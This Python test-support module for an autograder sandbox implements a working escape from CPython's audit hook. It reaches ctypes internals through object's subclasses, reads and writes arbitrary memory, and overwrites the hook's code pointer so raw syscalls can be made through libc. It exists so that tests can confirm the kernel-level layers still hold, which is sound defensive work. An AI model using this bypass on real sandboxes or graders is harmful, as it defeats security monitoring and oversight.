"""Switching the grading case's audit hook off with native code, as a determined student did (issue 22).

Not a submission: tests/test_sandbox_native.py copies this file into each
``hostile_native_*`` submission that attacks the kernel layers with the audit hook
gone (as ``mytorch/_hook_off.py``), and native_helper.py uses it too.  One source, so
every such test starts from the same, working, escape.

How (CPython 3.10 to 3.13, 64-bit little-endian Linux):

1. The ctypes types stay in the case's memory after ``guard.forget_ctypes`` (the fork
   server imported ctypes for the kernel layers): ``object.__subclasses__()`` reaches
   ``_ctypes.Union``, ``_ctypes._Pointer`` and ``_ctypes._SimpleCData``, and defining
   subclasses of them is not audited.
2. A Union of an integer and a pointer to an integer reads and writes any address,
   unaudited (only ``from_address``, ``addressof``, ``string_at``... are).
3. A refused action (reading a ``.pyc`` file in the working folder: the hook refuses it,
   Landlock allows it) raises inside the hook, so its traceback holds the hook's frame:
   ``_guarded`` there holds the ids (addresses) of the guard's functions, and ``f_code``
   the hook's code.  The one function whose memory holds that code's address is the
   hook, at the offset of its ``func_code`` field.
4. That field is overwritten with the address of ``(lambda *a: None).__code__``: the hook
   now accepts everything.  The same read then succeeds, which proves the hook is off;
   only then is ``import ctypes`` (refused by the hook's deny list) made and libc loaded.

``switch_off()`` raises ``HookStillOn`` (whose message says so) when any step fails, so
a test can never pass because the escape silently did not happen.
"""
import os

PROOF = "audit_hook_proof.pyc"  # in the working folder: writable, readable by Landlock, unreadable by the hook
MARK = "with the audit hook off"  # in every error the hostile submissions raise once switch_off succeeded
WORD = 8  # bytes: this file only knows 64-bit CPython

_kept = []  # the code object that replaces the hook's, and the loaded libc: never freed


class HookStillOn(RuntimeError):
    """The audit hook could not be switched off (so a hostile test proves nothing)."""


def _ctypes_bases():
    """_ctypes.Union, _ctypes._Pointer and _ctypes._SimpleCData, found from object by subclasses."""
    found, seen, pending = {}, set(), [object]
    while pending:
        for subclass in type.__subclasses__(pending.pop()):
            if id(subclass) not in seen:
                seen.add(id(subclass))
                pending.append(subclass)
                if subclass.__module__ == "_ctypes" and subclass.__name__ in ("Union", "_Pointer", "_SimpleCData"):
                    found[subclass.__name__] = subclass
    if len(found) != 3:
        raise HookStillOn(f"no ctypes types among object's subclasses (found {sorted(found)})")
    return found


def _memory():
    """(read, write) of one machine word at any address, through a ctypes Union (unaudited)."""
    bases = _ctypes_bases()

    class Word(bases["_SimpleCData"]):
        _type_ = "l"  # C long: one word on LP64

    class WordPointer(bases["_Pointer"]):
        _type_ = Word

    class Overlay(bases["Union"]):
        _fields_ = [("address", Word), ("pointer", WordPointer)]

    overlay = Overlay()

    def read(address):
        overlay.address = address
        value = overlay.pointer[0]
        return getattr(value, "value", value)

    def write(address, value):
        overlay.address = address
        overlay.pointer[0] = value

    return read, write


def _read_proof():
    with open(PROOF, "rb") as handle:
        return handle.read()


def switch_off():
    """Switch this process's audit hook off and return ``(ctypes, libc)``; HookStillOn if it cannot."""
    if _kept:
        return _kept[-2], _kept[-1]
    with open(PROOF, "wb") as handle:
        handle.write(b"proof")
    try:
        _read_proof()
    except PermissionError as error:
        refusal = error.__traceback__
    else:
        raise HookStillOn(f"the audit hook did not refuse reading {PROOF}: is there one?")
    hook_frame = None
    while refusal is not None:
        if "_guarded" in refusal.tb_frame.f_locals:
            hook_frame = refusal.tb_frame
        refusal = refusal.tb_next
    if hook_frame is None:
        raise HookStillOn("no frame of the audit hook in the refusal's traceback")
    guarded, code = hook_frame.f_locals["_guarded"], id(hook_frame.f_code)
    read, write = _memory()
    replacement = (lambda *args: None).__code__
    words = type(switch_off).__basicsize__ // WORD
    for function in guarded:
        offsets = [offset for offset in range(2, words) if read(function + offset * WORD) == code]
        if offsets:
            _kept.append(replacement)
            write(function + offsets[0] * WORD, id(replacement))
            break
    else:
        raise HookStillOn("no function of the guard holds the hook's code")
    try:
        if _read_proof() != b"proof":
            raise HookStillOn(f"{PROOF} read back wrong")
    except PermissionError as error:
        raise HookStillOn(f"the audit hook still refuses reading {PROOF}: {error}") from None
    import ctypes  # the hook's deny list refused this before
    libc = ctypes.CDLL(None, use_errno=True)  # and the hook refused ctypes.dlopen
    _kept.extend((ctypes, libc))
    return ctypes, libc


# The system calls the hostile submissions make: name -> (x86_64 number, aarch64 number), None where
# the architecture has no such call (checked against autograder/case/syscall_filter.py by the tests).
NUMBERS = {
    "shmget": (29, 194), "shmat": (30, 196), "shmctl": (31, 195), "shmdt": (67, 197), "semget": (64, 190),
    "semop": (65, 193), "semtimedop": (220, 192), "semctl": (66, 191), "msgget": (68, 186), "msgsnd": (69, 189),
    "msgrcv": (70, 188), "msgctl": (71, 187), "mq_open": (240, 180), "mq_unlink": (241, 181),
    "mq_timedsend": (242, 182), "mq_timedreceive": (243, 183), "mq_notify": (244, 184), "mq_getsetattr": (245, 185),
    "chmod": (90, None), "fchmod": (91, 52), "fchmodat": (268, 53), "fchmodat2": (452, 452), "chown": (92, None),
    "fchown": (93, 55), "lchown": (94, None), "fchownat": (260, 54), "utime": (132, None), "utimes": (235, None),
    "utimensat": (280, 88), "futimesat": (261, None), "setxattr": (188, 5), "lsetxattr": (189, 6),
    "fsetxattr": (190, 7), "removexattr": (197, 14), "truncate": (76, 45),
    "setpriority": (141, 140), "getpriority": (140, 141), "sched_setaffinity": (203, 122),
    "sched_getaffinity": (204, 123), "sched_setscheduler": (144, 119), "sched_setparam": (142, 118),
    "sched_setattr": (314, 274), "sched_getscheduler": (145, 120), "sched_getparam": (143, 121),
    "sched_getattr": (315, 275), "sched_rr_get_interval": (148, 127), "ioprio_set": (251, 30),
    "ioprio_get": (252, 31), "prlimit64": (302, 261), "ioctl": (16, 29),
}
COLUMN = {"x86_64": 0, "amd64": 0, "aarch64": 1, "arm64": 1}.get(os.uname().machine.lower())


def available(name):
    """Whether this machine's architecture has the system call ``name``."""
    return COLUMN is not None and NUMBERS[name][COLUMN] is not None


def raw(name, *args):
    """The system call ``name`` itself (through libc's syscall(), no wrapper that might pick another
    call), made once the hook is off: its result, or OSError(errno) when it fails, whose message says
    the hook was off and names the call.  Arguments: ints, bytes (a C string), None (NULL) or ctypes
    objects (passed as they are)."""
    ctypes, libc = switch_off()
    if COLUMN is None:
        raise RuntimeError(f"hostile test setup: no system-call numbers for {os.uname().machine}")

    def converted(value):
        if isinstance(value, bool) or not isinstance(value, (int, bytes, type(None))):
            return value
        if isinstance(value, bytes):
            return ctypes.c_char_p(value)
        return ctypes.c_void_p(None) if value is None else ctypes.c_long(value)

    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(NUMBERS[name][COLUMN]), *map(converted, args))
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, f"{MARK}, the kernel refused {name}")
    return result


def refusals(attempts):
    """Run each (label, call) of ``attempts``; raise PermissionError listing what the kernel refused
    ("label EPERM, ...") if every call failed, a RuntimeError naming those that succeeded otherwise."""
    import errno
    switch_off()  # the message below says the hook was off: make sure, even for an empty list
    failed, succeeded = [], []
    for label, call in attempts:
        try:
            call()
        except OSError as error:
            failed.append(f"{label} {errno.errorcode.get(error.errno, error.errno)}")
        else:
            succeeded.append(label)
    if succeeded:
        raise RuntimeError(f"{MARK}, the kernel allowed {', '.join(succeeded)} (refused: {', '.join(failed)})")
    raise PermissionError(errno.EPERM, f"{MARK}, the kernel refused {', '.join(failed)}")


def noted(name):
    """A path (or value) the test noted for this submission in test_paths.txt beside mytorch/ (see
    tests/conftest.py: a root grader may grade a readable copy, where nothing else is beside it)."""
    note = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_paths.txt")
    with open(note) as handle:
        for line in handle:
            key, _, value = line.rstrip("\n").partition("=")
            if key == name:
                return value
    raise RuntimeError(f"hostile test setup: no {name} in {note}")


def own_file(name):
    """A file of this case in its working folder (created now; the case's user owns it)."""
    with open(name, "w") as handle:
        handle.write("the case's own file\n")
    return os.path.abspath(name)
